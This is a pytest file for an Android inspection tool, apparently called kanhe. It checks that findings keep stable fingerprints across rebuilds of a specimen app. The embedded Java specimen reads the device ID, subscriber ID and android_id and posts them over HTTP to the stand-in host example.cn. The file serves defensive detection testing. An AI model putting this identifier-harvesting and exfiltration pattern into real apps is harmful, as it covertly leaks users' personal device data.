"""Findings keep their fingerprints when the same source is built again: among other classes, on other lines, for another
platform level, with or without debug information, and with other nameless classes and lambdas counted before them.
"""

from __future__ import annotations

import importlib.util
import shutil
import sys
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from types import ModuleType

import pytest

from kanhe.inspection import Options
from kanhe.report.diff import Side, compare
from kanhe.report.diff.sides import side

ROOT = Path(__file__).parents[2]
TOOLS = ("javac", "java", "mvn", "aapt", "zipalign", "apksigner")
pytestmark = [
    pytest.mark.jdk,
    pytest.mark.skipif(not all(map(shutil.which, TOOLS)), reason=f"needs {', '.join(TOOLS)}"),
]

SOURCE = """package com.example.specimen;
%(lines)s
import android.app.Activity;
import android.location.Location;
import android.location.LocationManager;
import android.os.Handler;
import android.os.Looper;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.net.HttpURLConnection;
import java.net.URL;

final class Work {
    enum Way { SLOW, FAST }
    private String kept;
    private Way way = Way.FAST;

    static void run(Activity activity) {
        new Work().start(activity);
    }

    private void start(Activity activity) {
        %(earlier)s
        new Thread(() -> keep(phone(activity).getDeviceId())).start();
        new Thread(new Runnable() {
            @Override
            public void run() {
                kept = phone(activity).getSubscriberId();
                Log.d("specimen", kept);
            }
        }).start();
        Handler handler = new Handler(Looper.getMainLooper());
        handler.post(() -> handler.postDelayed(() -> send(serial(activity)), 10));
        switch (way) {
            case FAST: new Thread(this::near).start(); break;
            default: keep("");
        }
    }

    private void near() {
        send(kept);
    }

    private static TelephonyManager phone(Activity activity) {
        return (TelephonyManager) activity.getSystemService("phone");
    }

    private static String serial(Activity activity) {
        return Settings.Secure.getString(activity.getContentResolver(), "android_id");
    }

    private void keep(String text) {
        kept = text;
        Log.i("specimen", text);
    }

    private void send(String text) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("http://example.cn/a").openConnection();
            connection.setDoOutput(true);
            connection.getOutputStream().write(text.getBytes());
        } catch (java.io.IOException e) {
            Log.d("specimen", "no");
        }
    }
}
"""
EARLIER = """new Thread(() -> { way = Way.SLOW; }).start();
        new Thread(new Runnable() { @Override public void run() { way = Way.FAST; } }).start();
        Runnable idle = () -> { Runnable inner = () -> keep(null); inner.run(); };"""
UNRELATED = """package com.example.aside;
public final class Unrelated {
    public static int sum(int... numbers) { int all = 0; for (int n : numbers) all += n; return all; }
    public Runnable later() { return () -> sum(1, 2); }
}
"""


@dataclass(frozen=True)
class Variant:
    """How a build differs from the first."""

    lines: int = 0
    earlier: str = ""
    unrelated: bool = False
    min_api: int = 21
    debug: bool = False


VARIANTS = {
    "other-lines": Variant(lines=90),
    "an-unrelated-class": Variant(unrelated=True),
    "other-lambdas-before": Variant(earlier=EARLIER),
    "newer-platform": Variant(min_api=29),
    "for-debugging": Variant(debug=True),
    "all-at-once": Variant(90, EARLIER, True, 29, True),
}


@cache
def builder() -> ModuleType:
    path = ROOT / "scripts/build_specimens.py"
    spec = importlib.util.spec_from_file_location("build_specimens", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def built(folder: Path, variant: Variant) -> Side:
    source = folder / "source"
    work = source / "java/com/example/specimen/Work.java"
    work.parent.mkdir(parents=True)
    work.write_text(SOURCE % {"lines": "// x\n" * variant.lines, "earlier": variant.earlier}, "utf-8")
    if variant.unrelated:
        aside = source / "java/com/example/aside/Unrelated.java"
        aside.parent.mkdir(parents=True)
        aside.write_text(UNRELATED, "utf-8")
    (folder / "work").mkdir()
    resources, dex = builder().compile_app(source, folder / "work", variant.min_api, debug=variant.debug)
    builder().pack(resources, {"classes.dex": dex}, folder / "app.apk")
    return side(folder / "app.apk", Options())


@pytest.fixture(scope="module")
def first(tmp_path_factory: pytest.TempPathFactory) -> Side:
    return built(tmp_path_factory.mktemp("first"), Variant())


def test_there_is_something_to_compare(first: Side) -> None:
    found = first.judgement.findings
    assert len({finding.rule for finding in found}) >= 4
    assert any("lambda" in (finding.caller or "") for finding in found)
    assert any("$1;" in (finding.caller or "") for finding in found)


@pytest.mark.parametrize("name", VARIANTS)
def test_a_rebuild_has_the_same_findings(first: Side, name: str, tmp_path: Path) -> None:
    rebuilt = built(tmp_path, VARIANTS[name])
    assert rebuilt.package["app"] != first.package["app"] or name == "for-debugging"
    old = {finding.fingerprint: finding for finding in first.judgement.findings}
    new = {finding.fingerprint: finding for finding in rebuilt.judgement.findings}
    assert [old[mark].message.en for mark in old.keys() - new.keys()] == []
    assert [new[mark].message.en for mark in new.keys() - old.keys()] == []
    assert compare(first, rebuilt).answer.reasons == ()
